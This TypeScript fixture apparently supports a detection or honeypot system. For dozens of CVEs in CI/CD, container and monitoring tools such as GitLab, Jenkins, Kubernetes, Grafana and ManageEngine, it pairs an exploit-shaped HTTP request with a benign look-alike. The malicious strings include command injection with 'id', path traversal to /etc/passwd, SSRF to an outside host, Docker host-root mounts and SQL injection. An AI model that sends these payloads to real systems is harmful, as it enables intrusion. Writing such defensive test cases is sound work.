import type { Cases } from './cases.ts';

export const ciDevops: Cases = {
  'CVE-2021-22205': [
    'POST /uploads/user\n\n--a\nContent-Disposition: form-data; name="file"; filename="a.jpg"\nContent-Type: image/jpeg\n\nAT&TFORM\x00\x00\x03\xafDJVMDIRM(metadata "\\c${system(id)}")\n--a--',
    'POST /uploads/photos\n\n--a\nContent-Disposition: form-data; name="file"; filename="a.jpg"\n\nx\n--a--',
  ],
  'CVE-2023-7028': [
    'POST /users/password\n\nuser%5Bemail%5D%5B%5D=mara@decoy.example&user%5Bemail%5D%5B%5D=x@198.example',
    'POST /users/password\n\nuser%5Bemail%5D=mara@decoy.example',
  ],
  'CVE-2021-22214': [
    'POST /api/v4/ci/lint\n\n{"include_merged_yaml":true,"content":"include:\\n  remote: http://198.51.100.7/api/v1/targets?test.yml"}',
    'POST /api/v4/ci/lint\n\n{"content":"stages: [build]"}',
  ],
  'gitlab-looked-for': ['GET /api/v4/projects', 'GET /v4/projects'],
  'CVE-2023-42793': ['POST /app/rest/users/id:1/tokens/RPC2', 'POST /app/rest/users/id:1/tokens/build'],
  'CVE-2024-27198': ['POST /pwned?jsp=/app/rest/users;.jsp\n\n{"username":"a"}', 'GET /view?jsp=/index.jsp'],
  'CVE-2024-27199': ['GET /res/../admin/diagnostic.jsp', 'GET /res/logo.svg'],
  'CVE-2024-23897': ['POST /cli?remoting=false\nSession: a\nSide: download', 'GET /cli'],
  'CVE-2018-1000861': [
    'GET /securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value=a',
    'GET /user/admin/builds',
  ],
  'CVE-2017-1000353': ['POST /cli\nSession: 1f2e\nSide: upload\n\nx', 'POST /cli\n\nx'],
  'CVE-2016-0792': [
    'POST /createItem?name=a\n\n<map><entry><groovy.util.Expando><expandoProperties><entry><org.codehaus.groovy.runtime.MethodClosure/></entry></expandoProperties></groovy.util.Expando></entry></map>',
    'POST /createItem?name=a\n\n<project/>',
  ],
  'jenkins-script-console': [
    'POST /script\n\nscript=println+%22id%22.execute().text',
    'POST /scripts\n\nscript=a',
  ],
  'jenkins-looked-for': ['GET /jenkins/login', 'GET /docs/jenkins-guide'],
  'CVE-2020-14144': [
    'POST /mara/app/settings/hooks/git/post-receive\n\ncontent=%23%21%2Fbin%2Fsh%0Aid%3B',
    'POST /mara/app/settings/hooks/gitea/new\n\npayload_url=https://ci.example',
  ],
  'CVE-2025-8110': [
    'PUT /api/v1/repos/mara/app/contents/link\n\n{"content":"W2NvcmVdIHNzaENvbW1hbmQ=","message":"core.sshCommand=id"}',
    'PUT /api/v1/repos/mara/app/contents/readme\n\n{"content":"aGk="}',
  ],
  'CVE-2022-31137': [
    'POST /app/options.py\n\nalert_consumer=notNull&serv=roxy-wi.access.log&getcert=;id;',
    'POST /app/options.py\n\ngetcert=site.pem',
  ],
  'CVE-2020-11651': [
    'bytes:\x82\xa4load\x81\xa3cmd\xaf_prep_auth_info\xa3enc\xa5clear',
    'bytes:\x82\xa4load\x81\xa3cmd\xa4ping\xa3enc\xa5clear',
  ],
  'CVE-2021-25281': [
    'POST /run\n\n{"client":"wheel_async","fun":"pillar_roots.write","data":"x","path":"../../../../../tmp/a"}',
    'POST /run\n\n{"client":"local","fun":"test.ping"}',
  ],
  'CVE-2020-16846': [
    'POST /run\n\nclient=ssh&tgt=a&fun=b&roster=whip1ash&ssh_priv=aaa|id%3b',
    'POST /run\n\nclient=ssh&tgt=a&fun=test.ping',
  ],
  'docker-api-container': [
    'POST /v1.24/containers/create?name=a\n\n{"Image":"alpine","Cmd":["sh"],"HostConfig":{"Binds":["/:/mnt"]}}',
    'POST /shipping/containers\n\n{"size":40}',
  ],
  'docker-api-looked-for': ['GET /v1.16/version', 'GET /version'],
  'docker-registry-list': ['GET /v2/_catalog', 'GET /v2/catalog'],
  'kubelet-run': ['POST /run/default/web-1/app\n\ncmd=id', 'POST /run/report\n\nname=a'],
  'kubernetes-pod-exec': [
    'POST /api/v1/namespaces/default/pods/web-1/exec?command=id',
    'GET /api/v1/namespaces/default/pods/web-1',
  ],
  'kubernetes-api-looked-for': ['GET /api/v1/namespaces', 'GET /shop/api/v1/nodes'],
  'CVE-2018-1002105': [
    'GET /apis/metrics.k8s.io/v1beta1\nConnection: upgrade\nUpgrade: websocket',
    'GET /apis/metrics.k8s.io/v1beta1',
  ],
  'CVE-2025-1974': [
    'POST /networking/v1/ingresses\n\n{"kind":"AdmissionReview","request":{"object":{"metadata":{"annotations":{"nginx.ingress.kubernetes.io/auth-url":"http://a/#;}}}ssl_engine foobar;"}}}}',
    'POST /networking/v1/ingresses\n\n{"kind":"AdmissionReview","request":{"object":{"metadata":{}}}}',
  ],
  'etcd-keys-read': ['GET /v2/keys/?recursive=true', 'GET /v2/keyboards'],
  'consul-service-exec': [
    'PUT /v1/agent/service/register\n\n{"ID":"a","Name":"a","Check":{"Args":["sh","-c","id"],"Interval":"10s"}}',
    'PUT /v1/agent/service/register\n\n{"ID":"a","Name":"a","Port":80}',
  ],
  'nomad-job-exec': [
    'POST /v1/jobs\n\n{"Job":{"TaskGroups":[{"Tasks":[{"Driver":"raw_exec","Config":{"command":"/bin/sh"}}]}]}}',
    'POST /v1/jobs\n\n{"title":"Gardener"}',
  ],
  'CVE-2022-24124': [
    'GET /api/get-organizations?p=1&pageSize=10&value=a&sortField=&sortOrder=&field=updatexml(1,version(),1)',
    'GET /api/get-organizations?field=name',
  ],
  'CVE-2020-13379': [
    'GET /avatar/test%3fd%3dredirect.rhynorater.com%25253f%253b%252fbp.blogspot.com%252f',
    'GET /avatar/46d229b033af06a191ff2267bca9ae56',
  ],
  'CVE-2021-43798': [
    'GET /public/plugins/alertlist/../../../../../../../../etc/passwd',
    'GET /public/plugins/alertlist/module.js',
  ],
  'CVE-2025-4123': ['GET /public/..%2F%5c198.51.100.7%2F%3f%2F..%2F..', 'GET /public/img/logo.svg'],
  'CVE-2024-9264': [
    'POST /api/ds/query?ds_type=__expr__\n\n{"queries":[{"datasource":{"type":"__expr__"},"expression":"SELECT * FROM read_csv_auto(\'/etc/passwd\')","type":"sql"}]}',
    'POST /api/ds/query\n\n{"queries":[{"expression":"$A > 1","datasource":{"type":"__expr__"}}]}',
  ],
  'CVE-2019-7609': [
    'POST /api/timelion/run\n\n{"sheet":[".es(*).props(label.__proto__.env.AAAA=\'x\')"]}',
    'POST /api/timelion/run\n\n{"sheet":[".es(*)"]}',
  ],
  'CVE-2018-17246': [
    'GET /api/console/api_server?sense_version=@@SENSE_VERSION&apis=../../../../../../../../etc/passwd',
    'GET /api/console/api_server?apis=es_6_0',
  ],
  'CVE-2024-29895': ['GET /cacti/cmd_realtime.php?1+1&&calc.exe;id', 'GET /cacti/realtime.php?id=1'],
  'CVE-2022-46169': [
    'GET /remote_agent.php?action=polldata&local_data_ids[]=1&host_id=1&poller_id=%3Bid\nX-Forwarded-For: 127.0.0.1',
    'GET /remote_agent.php?action=status',
  ],
  'CVE-2022-23131': [
    'GET /index_sso.php\nCookie: zbx_session=eyJzYW1sX2RhdGEiOnsidXNlcm5hbWVfYXR0cmlidXRlIjoiQWRtaW4ifX0=',
    'GET /index.php\nCookie: zbx_session=eyJzZXNzaW9uaWQiOiJhIn0=',
  ],
  'CVE-2021-25296': [
    'GET /nagiosxi/config/monitoringwizard.php?update=1&nsp=a&nextstep=4&wizard=windowswmi&ip_address=192.0.2.7&plugin_output_len=9999%3Bid%3B',
    'GET /nagiosxi/config/monitoringwizard.php?update=1',
  ],
  'CVE-2018-15708': [
    'GET /nagiosxi/includes/dashlets/rss_dashlet/magpierss/scripts/magpie_debug.php?url=https://198.51.100.7/a%20-o%20a.php',
    'GET /magpie.php?url=a',
  ],
  'CVE-2021-44515': [
    'POST /STATUSUPDATE?actionToCall=LogFile\n\nlogData=a&action=1',
    'POST /status/update\n\naction=1',
  ],
  'CVE-2020-10189': [
    'POST /mdm/client/v1/mdmLogUploader?udid=si%5C..%5C..%5Cwebapps&filename=logger.zip\n\nx',
    'GET /mdm/client/v1/status',
  ],
  'CVE-2021-40539': [
    'POST /./RestAPI/LogonCustomization\n\nmethodToCall=unspecified',
    'GET /api/LogonCustomization',
  ],
  'CVE-2022-47966': [
    'POST /SamlResponseServlet\n\nSAMLResponse=PHNhbWw',
    'POST /saml/acs\n\nSAMLResponse=PHNhbWw',
  ],
  'CVE-2021-44077': ['POST /RestAPI/ImportTechnicians?step=1\n\nx', 'GET /api/technicians'],
  'CVE-2022-35405': [
    'POST /xmlrpc\n\n<?xml version="1.0"?><methodCall><methodName>a</methodName><params><param><value><struct><member><name>b</name><value><serializable xmlns="http://ws.apache.org/xmlrpc/namespaces/extensions">rO0AB</serializable></value></member></struct></value></param></params></methodCall>',
    'POST /xmlrpc\n\n<methodCall><methodName>ping</methodName></methodCall>',
  ],
  'CVE-2022-28219': [
    'POST /api/agent/tabs/agentData\n\n[{"DomainName":"a","EventCode":4688,"Task Content":"<!DOCTYPE a>"}]',
    'GET /api/agent/tabs',
  ],
};
